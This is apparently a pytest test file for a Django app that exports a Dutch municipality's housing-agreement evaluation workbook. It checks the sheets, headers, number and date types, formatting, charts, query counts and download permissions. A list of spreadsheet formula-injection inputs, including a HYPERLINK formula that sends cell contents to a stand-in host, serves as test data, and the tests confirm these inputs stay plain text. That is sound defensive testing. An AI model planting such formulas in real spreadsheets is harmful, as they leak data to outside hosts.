"""The evaluation workbook 'Evaluatie jaarschijf <jaar>' that the municipality sends on."""

import io
import zipfile
from datetime import date, datetime

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from agreements.models import Evaluation, IndicatorValue, Party, ProgressUpdate
from evaluation.export import (
    ACTION_HEADERS,
    AFSPRAKEN_COLUMNS,
    INDICATOR_HEADERS,
    LABEL_INFO_HEADERS,
    PROGRESS_HEADERS,
    PROJECT_HEADERS,
    PROJECT_INFO_HEADERS,
)
from evaluation.report import report_actions
from evaluation.verdicts import tallies
from projects.models import Project
from sustainability.models import EnergyLabelFigure

from .factories import action, login, make_progress_update
from .helpers_evaluation import (
    column_of,
    data_rows,
    export_bytes,
    find_row,
    header,
    libreoffice_csv,
    open_workbook,
    project,
)

pytestmark = pytest.mark.django_db

SHEETS = [
    "Samenvatting",
    "Afspraken",
    "Projecten",
    "EFG-labels",
    "BAT-voorraad",
    "Kengetallen",
    "Voortgang",
]
CORPORATIONS = ["Weller", "Wonen Limburg", "Wonen Zuid", "Woonpunt", "Vincio Wonen"]
#: Text a user might type that a spreadsheet would otherwise run or reinterpret.
HOSTILE_NOTES = [
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "+31 45 123 4567",
    "-5 woningen minder dan gepland",
    "@SUM(A1:A9)",
    "=1+1",
]


def test_workbook_has_the_agreed_sheets_in_the_agreed_order(jaarschijf):
    wb = open_workbook(export_bytes(jaarschijf))
    assert wb.sheetnames == SHEETS
    assert wb.properties.title == "Evaluatie jaarschijf 2024"


def test_every_table_sheet_starts_with_the_agreed_header_row(jaarschijf):
    wb = open_workbook(export_bytes(jaarschijf))
    assert header(wb["Afspraken"]) == list(ACTION_HEADERS)
    assert header(wb["Projecten"]) == list(PROJECT_HEADERS + PROJECT_INFO_HEADERS)
    assert header(wb["EFG-labels"]) == (
        ["Jaar"]
        + [f"{c} {kind}" for c in CORPORATIONS for kind in ("doel", "realisatie")]
        + ["Totaal doel", "Totaal realisatie", *LABEL_INFO_HEADERS]
    )
    assert header(wb["BAT-voorraad"]) == ["Categorie", *CORPORATIONS, "Totaal"]
    assert [row[0] for row in data_rows(wb["BAT-voorraad"])] == [
        # the document's names of the classes (READING-2 B15)
        "Wandelstokgeschikt (BAT1)",
        "Rollatorbewoonbaar (BAT2)",
        "Rolstoelbewoonbaar (BAT3)",
        "Geschikt verpleegzorg thuis (BAT4)",
        "Totaal",
    ]
    assert header(wb["Kengetallen"]) == list(INDICATOR_HEADERS)
    assert header(wb["Voortgang"]) == list(PROGRESS_HEADERS)


def test_corporation_columns_follow_the_parties_in_the_data_not_the_code(jaarschijf):
    vincio = Party.objects.get(name="Vincio Wonen")
    vincio.sort_order = 1
    vincio.short_name = "Vincio"
    vincio.save()

    wb = open_workbook(export_bytes(jaarschijf))

    assert header(wb["EFG-labels"])[1:3] == ["Vincio doel", "Vincio realisatie"]
    assert header(wb["BAT-voorraad"])[1] == "Vincio"
    ws = wb["Projecten"]
    assert "Vincio" in [row[3] for row in data_rows(ws)]


def test_the_signed_document_is_in_the_workbook(jaarschijf):
    wb = open_workbook(export_bytes(jaarschijf))

    actions = data_rows(wb["Afspraken"])
    assert len(actions) == 67
    assert actions[0][0] == "1.7"
    assert len(data_rows(wb["Projecten"])) == Project.objects.filter(jaarschijf=jaarschijf).count()

    efg = wb["EFG-labels"]
    row = find_row(efg, Jaar=2022)
    assert efg.cell(row, column_of(efg, "Weller doel")).value == 598
    assert efg.cell(row, column_of(efg, "Woonpunt doel")).value == 1417
    assert efg.cell(row, column_of(efg, "Totaal doel")).value == 598 + 97 + 511 + 1417 + 907

    bat = wb["BAT-voorraad"]
    assert (
        bat.cell(
            find_row(bat, Categorie="Wandelstokgeschikt (BAT1)"), column_of(bat, "Weller")
        ).value
        == 2801
    )
    assert bat.cell(
        find_row(bat, Categorie="Wandelstokgeschikt (BAT1)"), column_of(bat, "Totaal")
    ).value == (374 + 511 + 2801 + 346 + 855)
    assert bat.cell(find_row(bat, Categorie="Totaal"), column_of(bat, "Weller")).value == (
        2801 + 0 + 28 + 184
    )

    summary = [row for row in wb["Samenvatting"].iter_rows(values_only=True)]
    statuses = [row[0] for row in summary].index("Afspraken per thema en status")
    labels = {}
    for row in summary:
        labels.setdefault(row[0], row)
    # The "Totaal" after the status heading is that of the actions per status.
    labels["Totaal"] = next(row for row in summary[statuses:] if row[0] == "Totaal")
    assert labels["Jaarschijf"][1] == 2024
    # Headline figure: computed from the EFG table, next to the printed 1.581
    assert labels["Te verbeteren energielabels"][2:4] == (1581, 1581)
    assert labels["Totaal"][1:7] == (67, 0, 0, 0, 0, 67)
    assert labels["Oordeel van het kernteam"][1] == (
        "Oordeel van het kernteam over de 67 afspraken: 67 nog niet beoordeeld."
    )


def test_numbers_are_numbers_dates_are_dates_and_unknown_stays_empty(jaarschijf):
    wb = open_workbook(export_bytes(jaarschijf))

    efg = wb["EFG-labels"]
    row_2024 = find_row(efg, Jaar=2024)
    # Woonpunt's 2024 target is "t.b." in the document: empty, not 0.
    assert efg.cell(row_2024, column_of(efg, "Woonpunt doel")).value is None
    assert efg.cell(row_2024, column_of(efg, "Weller realisatie")).value is None
    # The total of the known targets, with a comment that it is incomplete.
    total = efg.cell(row_2024, column_of(efg, "Totaal doel"))
    assert total.value == 474 + 26 + 475 + 606
    assert "Woonpunt" in total.comment.text

    projects = wb["Projecten"]
    slakhorst = find_row(projects, Project="Slakhorst")
    assert projects.cell(slakhorst, column_of(projects, "Woningen")).value == 147
    assert projects.cell(slakhorst, column_of(projects, "Woningen")).data_type == "n"
    assert projects.cell(slakhorst, column_of(projects, "Gerealiseerd")).value is None

    actions = wb["Afspraken"]
    first = find_row(actions, Nummer="1.7")
    assert actions.cell(first, column_of(actions, "% gereed")).value is None
    assert actions.cell(first, column_of(actions, "Laatste update")).value is None
    # Action numbers are text: 1.10 must not become 1.1
    assert actions.cell(first, column_of(actions, "Nummer")).data_type == "s"

    generated = dict(row[:2] for row in wb["Samenvatting"].iter_rows(values_only=True) if row[0])
    assert isinstance(generated["Gegenereerd op"], datetime)
    # Excel keeps no time zone: a date cell reads back as a naive midnight.
    assert generated["Ondertekend op"].date() == date(2024, 2, 28)
    assert generated["Ondertekend op"].hour == 0


def test_actions_show_the_latest_update_and_the_kernteams_judgement(jaarschijf, kernteamlid):
    make_progress_update(action("1.7"), kernteamlid, status="op_schema", percent_done=30)
    latest = make_progress_update(
        action("1.7"),
        kernteamlid,
        status="vertraagd",
        percent_done=45,
        explanation="Wacht op de raad.",
    )
    Evaluation.objects.create(
        action=action("1.7"),
        author=kernteamlid,
        assessment="deels_behaald",
        explanation="Half af.",
    )

    wb = open_workbook(export_bytes(jaarschijf))

    ws = wb["Afspraken"]
    row = {h: ws.cell(find_row(ws, Nummer="1.7"), column_of(ws, h)).value for h in ACTION_HEADERS}
    assert row["Status"] == "Vertraagd"
    # A percentage cell holds the fraction: Excel shows 45%.
    assert row["% gereed"] == pytest.approx(0.45)
    assert ws.cell(find_row(ws, Nummer="1.7"), column_of(ws, "% gereed")).number_format == "0%"
    assert row["Laatste update"] == datetime.combine(
        timezone.localtime(latest.created_at).date(), datetime.min.time()
    )
    assert row["Toelichting"] == "Wacht op de raad."
    assert row["Oordeel"] == "Deels behaald"
    assert row["Evaluatie"] == "Half af."
    assert row["Trekker"] == "Gemeente Heerlen"


def test_voortgang_lists_every_update_of_the_year_oldest_first(jaarschijf, weller_medewerker):
    first = make_progress_update(action("1.8"), weller_medewerker, percent_done=10)
    make_progress_update(
        action("1.8"), weller_medewerker, status="afgerond", percent_done=100, explanation="Klaar"
    )

    rows = data_rows(open_workbook(export_bytes(jaarschijf))["Voortgang"])

    assert len(rows) == ProgressUpdate.objects.filter(action__jaarschijf=jaarschijf).count() == 2
    # Excel keeps milliseconds: compare to the second.
    expected = timezone.localtime(first.created_at).replace(tzinfo=None)
    assert abs((rows[0][0] - expected).total_seconds()) < 1
    assert rows[0][1:6] == ("1.8", str(weller_medewerker), "Weller", "Op schema", 0.1)
    assert rows[1][4:7] == ("Afgerond", 1, "Klaar")


def test_text_that_users_typed_is_never_a_formula(jaarschijf, kernteamlid):
    for note in HOSTILE_NOTES:
        make_progress_update(action("1.9"), kernteamlid, explanation=note)
    slakhorst = project("Slakhorst")
    slakhorst.explanation = HOSTILE_NOTES[0]
    slakhorst.save()

    data = export_bytes(jaarschijf)

    wb = open_workbook(data)
    notes = wb["Voortgang"]
    column = column_of(notes, "Toelichting")
    cells = [notes.cell(row, column) for row in range(2, notes.max_row + 1)]
    assert [c.value for c in cells] == HOSTILE_NOTES
    assert {c.data_type for c in cells} == {"s"}
    projects = wb["Projecten"]
    cell = projects.cell(
        find_row(projects, Project="Slakhorst"), column_of(projects, "Toelichting")
    )
    assert (cell.value, cell.data_type) == (HOSTILE_NOTES[0], "s")
    # No sheet of the file contains a formula element at all.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        assert not [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]


@pytest.mark.libreoffice
def test_libreoffice_opens_the_workbook_and_keeps_typed_formulas_as_text(jaarschijf, kernteamlid):
    for note in HOSTILE_NOTES:
        make_progress_update(action("1.9"), kernteamlid, explanation=note)

    sheets = libreoffice_csv(export_bytes(jaarschijf))

    assert list(sheets) == SHEETS
    assert sheets["Afspraken"][0] == list(ACTION_HEADERS)
    assert sheets["Projecten"][0] == list(PROJECT_HEADERS + PROJECT_INFO_HEADERS)
    assert sheets["BAT-voorraad"][1][:2] == ["Wandelstokgeschikt (BAT1)", "2801"]
    assert len(sheets["Afspraken"]) == 1 + 67
    notes = [row[6] for row in sheets["Voortgang"][1:]]
    # "=1+1" would read "2" had LibreOffice evaluated it.
    assert notes == HOSTILE_NOTES


def test_header_row_is_frozen_filtered_and_statuses_are_coloured(jaarschijf, kernteamlid):
    make_progress_update(action("1.7"), kernteamlid, status="vertraagd", explanation="Later.")
    wb = open_workbook(export_bytes(jaarschijf))

    ws = wb["Afspraken"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:K68"
    assert ws.cell(1, 1).font.bold
    assert ws.column_dimensions["C"].width == 36
    assert ws.cell(2, column_of(ws, "Afspraak")).alignment.wrap_text
    late = ws.cell(find_row(ws, Nummer="1.7"), column_of(ws, "Status"))
    not_started = ws.cell(find_row(ws, Nummer="1.8"), column_of(ws, "Status"))
    assert late.value == "Vertraagd"
    assert late.fill.fgColor.rgb.endswith("FFEB9C")
    assert not_started.fill.fgColor.rgb != late.fill.fgColor.rgb
    for name in ("Projecten", "EFG-labels", "BAT-voorraad", "Kengetallen", "Voortgang"):
        assert wb[name].freeze_panes == "A2", name
        assert wb[name].auto_filter.ref.startswith("A1:"), name


def test_efg_sheet_has_a_line_chart_of_the_trajectories(jaarschijf):
    data = export_bytes(jaarschijf)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        charts = [
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/charts/chart")
        ]
        lines = [c for c in charts if "<c:lineChart>" in c or "<lineChart>" in c]
        assert len(lines) == 1  # the other chart is the Samenvatting's tally of verdicts
        chart = lines[0]
    assert "<c:lineChart>" in chart or "<lineChart>" in chart
    assert "'EFG-labels'!$B$2:$B$9" in chart  # Weller doel is one of the series
    wb = open_workbook(data)
    assert len(wb["EFG-labels"]._charts) == 1


def test_export_needs_the_same_number_of_queries_for_more_data(jaarschijf, kernteamlid):
    def count_queries():
        with CaptureQueriesContext(connection) as queries:
            export_bytes(jaarschijf)
        return len(queries)

    before = count_queries()
    for number in ("1.7", "1.8", "1.9", "1.10"):
        for percent in (10, 20, 30):
            make_progress_update(action(number), kernteamlid, percent_done=percent)
        Evaluation.objects.create(
            action=action(number), author=kernteamlid, assessment="behaald", explanation="ok"
        )
    template = project("Slakhorst")
    for position in range(100, 130):
        Project.objects.create(
            jaarschijf=jaarschijf,
            category="nieuwbouw",
            position=position,
            name=f"Extra {position}",
            corporation=template.corporation,
        )
    assert count_queries() == before
    # 20 for the sheets, 2 for the verdict tally and 3 for the vaststelling in the Samenvatting
    assert before <= 25


def test_beheerder_kernteam_and_gemeente_download_the_evaluation(client, personas):
    for persona in ("beheerder", "kernteam", "gemeente"):
        login(client, personas[persona])
        response = client.get(reverse("evaluation:evaluation-export", args=[2024]))
        assert response.status_code == 200, persona
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        assert 'filename="Evaluatie jaarschijf 2024.xlsx"' in response["Content-Disposition"]
        wb = open_workbook(b"".join(response.streaming_content))
        assert wb.sheetnames == SHEETS


def test_corporations_and_tenants_cannot_download_the_evaluation(client, personas):
    for persona in ("weller", "huurder"):
        login(client, personas[persona])
        assert client.get(reverse("evaluation:evaluation-export", args=[2024])).status_code == 403
    client.logout()
    response = client.get(reverse("evaluation:evaluation-export", args=[2024]))
    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


def test_export_of_an_unknown_year_is_not_found(client, kernteamlid):
    login(client, kernteamlid)
    assert client.get(reverse("evaluation:evaluation-export", args=[1999])).status_code == 404


def test_export_page_query_count_is_bounded(client, kernteamlid, django_assert_max_num_queries):
    login(client, kernteamlid)
    with django_assert_max_num_queries(30):
        response = client.get(reverse("evaluation:evaluation-export", args=[2024]))
        b"".join(response.streaming_content)


def test_export_command_writes_the_workbook(jaarschijf, tmp_path):
    target = tmp_path / "evaluatie.xlsx"
    out = io.StringIO()
    call_command("export_evaluation", "2024", "--output", str(target), stdout=out)
    assert "Evaluatie jaarschijf 2024" in out.getvalue()
    wb = open_workbook(target.read_bytes())
    assert wb.sheetnames == SHEETS


def test_export_command_refuses_an_unknown_year(jaarschijf, tmp_path):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="Jaarschijf 1999 bestaat niet"):
        call_command("export_evaluation", "1999", "--output", str(tmp_path / "x.xlsx"))


def test_kengetallen_keep_decimals_and_leave_unknown_realisations_empty(jaarschijf):
    rows = data_rows(open_workbook(export_bytes(jaarschijf))["Kengetallen"])
    by_name = {(row[0], row[2]): dict(zip(INDICATOR_HEADERS, row, strict=True)) for row in rows}
    daeb = by_name[("DAEB-toewijzing", None)]
    assert (daeb["Doel"], daeb["Realisatie"], daeb["Eenheid"]) == (85, None, "%")
    decimals = [row[INDICATOR_HEADERS.index("Doel")] for row in rows]
    assert -1.4 in decimals


def test_label_figures_of_every_year_are_exported(jaarschijf):
    years = sorted(
        set(EnergyLabelFigure.objects.filter(jaarschijf=jaarschijf).values_list("year", flat=True))
    )
    efg = open_workbook(export_bytes(jaarschijf))["EFG-labels"]
    assert [row[0] for row in data_rows(efg)] == years


def test_date_cells_are_dates(jaarschijf):
    summary = open_workbook(export_bytes(jaarschijf))["Samenvatting"]
    cells = {row[0].value: row[1] for row in summary.iter_rows() if row[0].value}
    assert cells["Peildatum BAT-voorraad"].is_date
    assert cells["Peildatum BAT-voorraad"].value.date() == date(2023, 12, 31)
    assert cells["Peildatum BAT-voorraad"].number_format == "DD-MM-YYYY"


def test_long_texts_get_rows_high_enough_to_read_and_sheets_print_one_page_wide(jaarschijf):
    wb = open_workbook(export_bytes(jaarschijf))
    ws = wb["Afspraken"]
    long_row = find_row(ws, Nummer="1.8")  # a paragraph of several sentences
    assert ws.row_dimensions[long_row].height >= 4 * 15
    assert ws.row_dimensions[1].height is None or ws.row_dimensions[1].height <= 30
    for sheet in wb:
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet.page_setup.fitToWidth == 1
        assert sheet.page_setup.orientation == "landscape"


def test_dashboard_links_offer_only_what_the_user_may_do(rf, personas, jaarschijf):
    from django.template.loader import render_to_string

    def links(persona):
        request = rf.get("/")
        request.user = personas[persona]
        return render_to_string(
            "evaluation/_dashboard_actions.html",
            {"jaarschijf": jaarschijf, "user": personas[persona]},
            request=request,
        )

    kernteam = links("kernteam")
    assert reverse("evaluation:evaluation-export", args=[2024]) in kernteam
    assert reverse("evaluation:evaluation-import", args=[2024]) in kernteam
    assert reverse("evaluation:jaarschijf-manage", args=[2024]) in kernteam
    gemeente = links("gemeente")
    assert reverse("evaluation:evaluation-export", args=[2024]) in gemeente
    assert reverse("evaluation:evaluation-import", args=[2024]) not in gemeente
    weller = links("weller")
    assert reverse("evaluation:evaluation-export", args=[2024]) not in weller
    assert reverse("evaluation:evaluation-import", args=[2024]) in weller
    tenant = links("huurder")
    assert reverse("evaluation:evaluation-export", args=[2024]) not in tenant
    assert reverse("evaluation:compare-years") in tenant


def test_the_samenvatting_tallies_the_verdicts_per_theme_and_lead_with_a_chart(
    jaarschijf, kernteamlid
):
    for number, assessment in (("1.7", "behaald"), ("1.8", "niet_behaald"), ("2.1", "behaald")):
        Evaluation.objects.create(
            action=action(number), author=kernteamlid, assessment=assessment, explanation="x"
        )
    data = export_bytes(jaarschijf)
    ws = open_workbook(data)["Samenvatting"]
    rows = [row for row in ws.iter_rows(values_only=True)]
    start = [row[0] for row in rows].index("Oordeel van het kernteam per thema (laatste evaluatie)")

    assert rows[start + 1][:7] == (
        "Thema",
        "Behaald",
        "Deels behaald",
        "Niet behaald",
        "Doorgeschoven",
        "Nog niet beoordeeld",
        "Totaal",
    )
    theme_1 = rows[start + 2]
    assert theme_1[0].startswith("1. ") and theme_1[1:4] == (1, 0, 1)
    total = next(row for row in rows[start:] if row[0] == "Totaal")
    assert total[1:7] == (2, 0, 1, 0, 64, 67)
    assert any(
        row[0] == "Oordeel per trekker (een afspraak met twee trekkers telt bij beide)"
        for row in rows
    )

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        charts = [archive.read(n).decode() for n in archive.namelist() if "xl/charts/chart" in n]
    bars = [c for c in charts if "barChart>" in c]
    assert len(bars) == 1
    assert f"'Samenvatting'!$A${start + 3}:$A${start + 8}" in bars[0]  # the six themes


def test_the_samenvatting_counts_per_lead_party_as_the_evaluation_report_does(
    jaarschijf, kernteamlid
):
    # An action with two leads counts for both; the workbook counts from plain values, the
    # report from its action objects: the two must give the same tally.
    for number, assessment in (("1.7", "behaald"), ("1.8", "niet_behaald"), ("2.1", "behaald")):
        Evaluation.objects.create(
            action=action(number), author=kernteamlid, assessment=assessment, explanation="x"
        )
    per_theme, per_lead, overall = tallies(report_actions(jaarschijf))
    rows = list(open_workbook(export_bytes(jaarschijf))["Samenvatting"].iter_rows(values_only=True))
    start = [row[0] for row in rows].index(
        "Oordeel per trekker (een afspraak met twee trekkers telt bij beide)"
    )
    in_workbook = [row[:7] for row in rows[start + 2 : start + 2 + len(per_lead)]]

    assert in_workbook == [(t.label, *t.cells(), t.total) for t in per_lead]
    assert sum(t.total for t in per_lead) > overall.total  # some actions have two leads
    assert not rows[start + 2 + len(per_lead)][0]  # nothing after the last lead


def test_afspraken_prints_legibly_on_landscape_a4_fitted_to_the_width(jaarschijf):
    ws = open_workbook(export_bytes(jaarschijf))["Afspraken"]

    assert ws.print_title_rows == "$1:$1"  # the header row repeats on every page
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    for name in ("Afspraak", "Thema"):
        assert ws.cell(2, column_of(ws, name)).alignment.wrap_text, name
    assert all(column.wrap for column in AFSPRAKEN_COLUMNS if column.width > 12)
    # Fitted to the width, the 11-point text shrinks by (paper width / sheet width). A column
    # unit is about 7 px plus 5 px padding at 96 dpi; A4 landscape minus 0,4-inch margins is
    # 10,89 inch.
    font = ws.cell(2, 1).font.sz or 11
    pixels = sum(ws.column_dimensions[c].width * 7 + 5 for c in "ABCDEFGHIJK")
    printable = (11.69 - 2 * ws.page_margins.left) * 96
    assert font * min(1, printable / pixels) >= 9


def test_voortgang_has_author_party_and_evidence_link_and_projecten_the_expected_delivery(
    jaarschijf, weller_medewerker
):
    make_progress_update(
        action("1.8"), weller_medewerker, evidence_url="https://weller.example/rapportage.pdf"
    )
    project_row = Project.objects.filter(jaarschijf=jaarschijf).order_by("pk").first()
    project_row.expected_year, project_row.expected_quarter = 2025, 3
    project_row.save()
    wb = open_workbook(export_bytes(jaarschijf))

    progress = wb["Voortgang"]
    row = find_row(progress, Afspraak="1.8")
    assert progress.cell(row, column_of(progress, "Auteur")).value == "Medewerker Weller"
    assert progress.cell(row, column_of(progress, "Partij")).value == "Weller"
    assert (
        progress.cell(row, column_of(progress, "Onderbouwing (link)")).value
        == "https://weller.example/rapportage.pdf"
    )
    projects = wb["Projecten"]
    delivery = column_of(projects, "Verwachte oplevering") - 1
    expected = [r[delivery] for r in data_rows(projects)]
    assert "Q3 2025" in expected


def test_kengetallen_say_the_comparison_whether_the_target_is_met_and_the_note(jaarschijf):
    value = (
        IndicatorValue.objects.filter(indicator__jaarschijf=jaarschijf, target__isnull=False)
        .select_related("indicator")
        .first()
    )
    value.realised = value.target
    value.realised_note = "Bron: jaarverslag 2024"
    value.save()
    ws = open_workbook(export_bytes(jaarschijf))["Kengetallen"]
    rows = data_rows(ws)
    columns = header(ws)
    met = columns.index("Gehaald?")
    row = next(
        r for r in rows if r[columns.index("Toelichting realisatie")] == "Bron: jaarverslag 2024"
    )

    assert row[met] == value.verdict  # 'Ja' for an exact figure, never for an estimate
    assert row[columns.index("Vergelijking doel")] == value.get_target_comparator_display()
    # Without a realisation nothing is judged; a target not yet set says so.
    assert {r[met] for r in rows if r[columns.index("Realisatie")] is None} == {
        "Nog niet bekend",
        "Nog niet vastgesteld",
    }
